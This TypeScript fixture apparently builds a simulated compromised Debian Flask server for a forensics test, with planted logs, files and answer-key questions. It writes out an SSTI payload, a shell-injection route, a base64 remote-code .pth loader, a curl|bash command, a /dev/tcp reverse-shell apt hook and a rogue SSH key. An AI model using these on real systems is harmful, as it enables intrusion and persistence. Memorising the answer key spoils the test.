/** Debian, Python with Flask: a template that runs what it is given, a route added to the program, a stolen key from the inside. */
import {
  attacker,
  combined,
  entered,
  type Host,
  inTimeline,
  later,
  outbound,
  shell,
  stays,
  syslog,
  visitors,
} from './host.ts';

const THIEF = '203.0.113.58';
const SSTI = "%7B%7Brequest.application.__globals__.__builtins__.__import__('os').popen('id').read()%7D%7D";
const app = `from flask import Flask, request, render_template
import subprocess
app = Flask(__name__)

@app.route("/receipt")
def receipt():
    return render_template("receipt.html", name=request.args.get("name", ""))

@app.route("/static/health2", methods=["POST"])
def health2():
    return subprocess.check_output(request.form["z"], shell=True)
`;

export const debianFlask: Host = {
  name: 'Debian with Flask',
  files: {
    'var/log/gunicorn/access.log':
      visitors('2026-11-20T06:00:00Z', ['/', '/receipt?name=Anna', '/pay', '/static/app.css']) +
      combined('2026-11-20T06:44:00Z', THIEF, 'GET /receipt?name=%7B%7B7*7%7D%7D', 200, 1202) +
      combined('2026-11-20T06:44:50Z', THIEF, `GET /receipt?name=${SSTI}`, 200, 1260) +
      Array.from({ length: 7 }, (_, i) =>
        combined(later('2026-11-20T06:58:11Z', i * 20), THIEF, 'POST /static/health2', 200, 80 + i * 9),
      ).join(''),
    'srv/pay/app.py': app,
    'srv/pay/jobs.py':
      'import subprocess\n\ndef rotate():\n    subprocess.check_output(["logrotate", "-f", "/etc/logrotate.d/pay"])\n',
    'srv/pay/venv/lib/python3.11/site-packages/distutils-precedence.pth':
      "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();\n",
    'srv/pay/venv/lib/python3.11/site-packages/zlib-compat.pth':
      "import base64;exec(base64.b64decode('aW1wb3J0IHVybGxpYi5yZXF1ZXN0IGFzIHU7ZXhlYyh1LnVybG9wZW4oJ2h0dHA6Ly8xOTguMTguNjYuNS9wJykucmVhZCgpKQ=='))\n",
    'home/pay/.local/share/fish/fish_history':
      '- cmd: ls -la\n  when: 1795157000\n- cmd: curl -s http://198.18.66.5/x.sh | bash\n  when: 1795157700\n- cmd: echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKq kali@kali" >> ~/.ssh/authorized_keys\n  when: 1795157760\n',
    'home/pay/.ssh/authorized_keys':
      'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB1 ci@build\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKq kali@kali\n',
    'root/.python_history': "import pty\npty.spawn('/bin/bash')\nimport urllib.request\n",
    'etc/update-motd.d/96-security-news':
      "#!/bin/sh\n[ -x /usr/bin/python3 ] && python3 -c \"exec(__import__('urllib.request').request.urlopen('http://198.18.66.5/motd').read())\" >/dev/null 2>&1 &\n",
    'etc/update-motd.d/10-uname': '#!/bin/sh\nuname -snrvm\n',
    'etc/update-motd.d/50-motd-news':
      '#!/bin/sh\n. /etc/default/motd-news\n[ "$ENABLED" = "1" ] || exit 0\ncurl --connect-timeout 60 --max-time 60 -A "$USER_AGENT" -o- "$URLS" >"$NEWS" 2>"$ERR"\n',
    'etc/apt/apt.conf.d/99periodic':
      'APT::Update::Pre-Invoke {"nohup bash -c \'bash -i >& /dev/tcp/198.18.66.5/8443 0>&1\' 2>/dev/null &"};\n',
    'etc/apt/apt.conf.d/20auto-upgrades':
      'APT::Periodic::Update-Package-Lists "1";\nAPT::Periodic::Unattended-Upgrade "1";\n',
    'etc/rc.local': '#!/bin/sh -e\n/usr/local/sbin/iptables-restore-once\n/var/tmp/.font-unix/xfsd -d\nexit 0\n',
    'var/log/auth.log': `${[
      ...Array.from(
        { length: 8 },
        (_, i) =>
          `${syslog(later('2026-11-20T00:10:00Z', i * 2700))} pay2 sshd[70${i}]: Accepted publickey for deploy from 10.4.0.8 port 4010${i} ssh2: ED25519 SHA256:dep`,
      ),
      `${syslog('2026-11-20T07:20:05Z')} pay2 sshd[811]: Accepted publickey for deploy from 10.4.0.31 port 51890 ssh2: ED25519 SHA256:dep`,
      `${syslog('2026-11-20T07:21:40Z')} pay2 sudo:   deploy : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/tee /etc/update-motd.d/96-security-news`,
      `${syslog('2026-11-20T07:22:00Z')} pay2 sudo:   deploy : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/install -m 4755 /bin/dash /var/tmp/.font-unix/d`,
    ].join('\n')}\n`,
  },
  questions: [
    attacker(THIEF, 2),
    attacker('10.4.0.31', 3),
    entered(/template|receipt|06:44|route|shell/i),
    ...shell('srv/pay/app.py', { first: '2026-11-20T06:58:11Z' }),
    stays('zlib-compat.pth', 'b64decode'),
    stays('fish_history', 'x.sh | bash'),
    stays('home/pay/.ssh/authorized_keys', 'kali@kali'),
    stays('96-security-news', '198.18.66.5'),
    stays('99periodic', '/dev/tcp/198.18.66.5'),
    stays('etc/rc.local', '.font-unix'),
    stays('auth.log', '4755'),
    outbound('198.18.66.5'),
    inTimeline(/attack|receipt/, '2026-11-20T06:44:50Z'),
    inTimeline(/x\.sh|198\.18\.66\.5/, '2026-11-20T06:55:00Z'),
  ],
};
